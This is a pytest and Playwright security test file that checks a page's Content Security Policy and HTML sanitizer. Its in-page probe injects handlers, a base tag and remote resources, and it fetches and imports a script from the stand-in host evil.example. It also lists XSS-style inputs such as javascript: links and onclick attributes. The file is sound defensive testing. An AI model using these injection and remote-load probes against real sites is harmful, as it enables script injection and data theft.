"""Each directive of the policy and each line of the sanitizer is needed: without it, one of these probes succeeds."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Response, Route, expect

from tests.e2e.conftest import Gateway
from tests.page.exposed import ExposedBuild, exposed_build
from tests.page.hostile import ALL, LINKS, RAW_HTML, WATCH_CODE
from tests.page.test_hostile import GROW

EVIL: Final = "http://evil.example"

# The page's own Trusted Types policy makes the HTML of these probes, so that only the directive in question can stop it.
PROBES: Final = """
async (evil) => {
  const { html, render } = await load("lit-html");
  const breaches = [];
  const place = document.createElement("div");
  document.body.append(place);
  const settled = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const tries = (name, act) => { try { if (act() !== false) breaches.push(name); } catch {} };
  tries("string as HTML", () => { document.createElement("div").innerHTML = "<b>x</b>"; });
  tries("new policy", () => { trustedTypes.createPolicy("evil", { createHTML: (text) => text }); });
  tries("WebAssembly", () => { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); });
  render(html`<button onclick="globalThis.handled = true"></button><style>.probe { position: fixed }</style><p class="probe"></p>
    <img src="http://evil.example/image"><audio src="http://evil.example/media" preload="auto"></audio>
    <link rel="stylesheet" href="http://evil.example/style"><iframe src="http://evil.example/frame"></iframe>
    <img id="data" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">
    <form action="/submitted" target="_blank"></form>`, place);
  place.querySelector("button").click();
  tries("handler", () => globalThis.handled === true);
  tries("inline style", () => getComputedStyle(place.querySelector("p")).position === "fixed");
  await Promise.allSettled([fetch(`${evil}/fetch`, { mode: "no-cors" }), import(`${evil}/module`)]);
  place.querySelector("form").submit();
  await settled(250);
  tries("data image", () => place.querySelector("#data").naturalWidth > 0);
  const base = document.createElement("base");
  base.setAttribute("href", `${evil}/`);
  document.head.prepend(base);
  tries("base", () => document.baseURI.startsWith(evil));
  return breaches;
}
"""
LOOSENED: Final = {
    "default-src, frames and media": ("default-src 'none'", "default-src 'self' http:", {"media", "frame"}),
    "default-src left out": ("default-src 'none'; ", "", {"media", "frame"}),
    "script-src with inline handlers": ("script-src 'self'", "script-src 'self' 'unsafe-inline'", {"handler"}),
    "script-src with other hosts": ("script-src 'self'", "script-src 'self' http:", {"module"}),
    "script-src with evaluation": ("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", {"WebAssembly"}),
    "style-src with inline styles": ("style-src 'self'", "style-src 'self' 'unsafe-inline'", {"inline style"}),
    "style-src with other hosts": ("style-src 'self'", "style-src 'self' http:", {"style"}),
    "connect-src with other hosts": ("connect-src 'self'", "connect-src 'self' http://evil.example", {"fetch"}),
    "img-src with other hosts": ("img-src 'self'", "img-src 'self' http:", {"image"}),
    "img-src with data": ("img-src 'self'", "img-src 'self' data:", {"data image"}),
    "base-uri left out": ("base-uri 'none'; ", "", {"base"}),
    "form-action left out": ("form-action 'none'; ", "", {"submitted"}),
    "frame-ancestors left out": ("frame-ancestors 'none'; ", "", {"embedded"}),
    "trusted types not required": ("require-trusted-types-for 'script'; ", "", {"string as HTML"}),
    "any trusted type": ("trusted-types lit-html dompurify", "trusted-types *", {"new policy"}),
}


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def breaches(page: Page, url: str, change: tuple[str, str] = ("", "")) -> set[str]:
    """Return the probes that succeed in the page, whose policy has been changed so."""
    loaded: set[str] = set()

    def load(route: Route) -> None:
        loaded.add(urlsplit(route.request.url).path.strip("/"))
        route.fulfill(status=200, content_type="text/javascript", body="", headers={"Access-Control-Allow-Origin": "*"})

    page.context.route(f"{EVIL}/**", load)
    page.context.route(re.compile("/submitted"), load)
    exposed_build().serve(page.context, url, change)
    page.goto(f"{url}/ui")
    expect(page.get_by_label("Token")).to_be_visible()
    found = {*page.evaluate(PROBES, EVIL), *loaded}
    return found | ({"embedded"} if is_embedded(page, url) else set())


def is_embedded(page: Page, url: str) -> bool:
    """Return whether a page of another host can show the page in a frame."""
    page.context.route(
        "http://frame.example/", lambda route: route.fulfill(content_type="text/html", body=f'<iframe src="{url}/ui">')
    )
    page.goto("http://frame.example/")
    return page.frames[-1].locator("#page").count() > 0


def test_no_probe_succeeds_under_the_policy(page: Page, standin: Gateway) -> None:
    assert breaches(page, standin.url) == set()


@pytest.mark.parametrize(("old", "new", "expected"), LOOSENED.values(), ids=LOOSENED)
def test_a_loosened_directive_lets_a_probe_succeed(page: Page, standin: Gateway, old: str, new: str, expected: set[str]) -> None:
    assert breaches(page, standin.url, (old, new)) == expected


def test_every_directive_is_loosened(page: Page, standin: Gateway) -> None:
    answer: Response | None = page.goto(f"{standin.url}/ui")
    assert answer is not None
    directives = [directive.split()[0] for directive in answer.headers["content-security-policy"].split(";")]
    assert [name for name in directives if not any(old.startswith(name) for old, _, _ in LOOSENED.values())] == []


DIRTY: Final = (
    "<img src=x>", "<style>p{}</style>", "<svg></svg>", "<math></math>", "<iframe></iframe>", "<form></form>", "<input>",
    "<a href=javascript:1>x</a>", "<p id=page>x</p>", "<p style='color:red'>x</p>", "<p onclick=x()>x</p>", "<p title=x>x</p>",
    "<p data-x=1>x</p>", "<p aria-label=x>x</p>", "<p class=notice>x</p>", "<p class='align-left notice'>x</p>", "<x-y>x</x-y>",
    "<div>x</div>", "<a name=body>x</a>", "<p>x<!-- comment --></p>",
)  # fmt: skip
SANITIZE: Final = """
async (dirty) => {
  const { sanitize } = await load("sanitize.js");
  return dirty.map((source) => {
    const elements = [...sanitize(source).querySelectorAll("*")];
    return [source, elements.map((one) => `${one.localName}${[...one.attributes].map(({ name }) => ` ${name}`).join("")}`)];
  });
}
"""
KEPT: Final = {"a", "p"}
CODE_MUTANTS: Final = {
    "images and styles are allowed": ("sanitize.js", '"a", "blockquote"', '"a", "img", "style", "blockquote"'),
    "any tag is allowed": ("sanitize.js", "    ALLOWED_TAGS: TAGS,\n", ""),
    "any attribute is allowed": ("sanitize.js", "    ALLOWED_ATTR: ATTRIBUTES,\n", ""),
    "ids are allowed": ("sanitize.js", '"class", "start"', '"class", "id", "start"'),
    "data attributes are allowed": ("sanitize.js", "ALLOW_DATA_ATTR: false", "ALLOW_DATA_ATTR: true"),
    "ARIA attributes are allowed": ("sanitize.js", "ALLOW_ARIA_ATTR: false", "ALLOW_ARIA_ATTR: true"),
    "any class is allowed": ("sanitize.js", "data.keepAttr = false", "data.keepAttr = true"),
    "HTML in Markdown": ("markdown.js", "html: false", "html: true"),
    "images in Markdown": ("markdown.js", '.disable("image")', ""),
    "any link in Markdown": ("markdown.js", "parser.validateLink = isSafeLink;", "parser.validateLink = () => true;"),
    "links of every scheme": ("markdown.js", "if (!/^https:", "if (!/^[a-z]+:"),
    "links with a user": ("markdown.js", "username || password ? null : host", "host"),
    "links without a host": ("markdown.js", "link.append(label, shown)", "link.append(label)"),
    "links with a referrer": ("markdown.js", 'link.rel = "noopener noreferrer"', 'link.rel = ""'),
    "hidden characters": ("visible.js", "return text.replace", "return text; text.replace"),
    "styles of tables": ("markdown.js", "parser.renderer.rules.th_open = parser.renderer.rules.td_open = align;", ""),
}


def defects(page: Page, url: str, build: ExposedBuild) -> list[Any]:
    """Return what the Markdown and the sanitizer of a build do that they must not."""
    build.serve(page.context, url)
    page.add_init_script(WATCH_CODE)
    page.goto(f"{url}/ui")
    expect(page.get_by_label("Token")).to_be_visible()
    kept = page.evaluate(SANITIZE, list(DIRTY))
    faults: list[Any] = [source for source, elements in kept if not set(elements) <= KEPT]
    page.on("console", lambda message: faults.append(message.text) if message.type == "error" else None)
    report: dict[str, Any] = page.evaluate(GROW, [{name: text for name, text in ALL.items() if len(text) < 70}, []])
    for name, one in report.items():
        faults += [f"{name}: {found}" for found in one["found"]]
        text = one["text"]
        faults += [f"{name}: hidden" for character in "\u202e\u200b\u2060" if character in text]
        if name in RAW_HTML and text.count("pwned()") < RAW_HTML[name].count("pwned()"):
            faults.append(f"{name}: {text}")
        if name in {f"link: {link}" for link in LINKS} and ("x" in one["links"] or not re.search(r"\[x\]|<javascript", text)):
            faults.append(f"{name}: {text}")
    if not report["image"]["text"].startswith("!"):
        faults.append("an image")
    return faults


def test_the_page_as_it_is_has_no_defect(page: Page, standin: Gateway) -> None:
    assert defects(page, standin.url, exposed_build()) == []


@pytest.mark.parametrize(("file", "old", "new"), CODE_MUTANTS.values(), ids=CODE_MUTANTS)
def test_a_loosened_sanitizer_is_noticed(page: Page, standin: Gateway, tmp_path: Path, file: str, old: str, new: str) -> None:
    assert defects(page, standin.url, ExposedBuild(tmp_path, file, (old, new))) != []
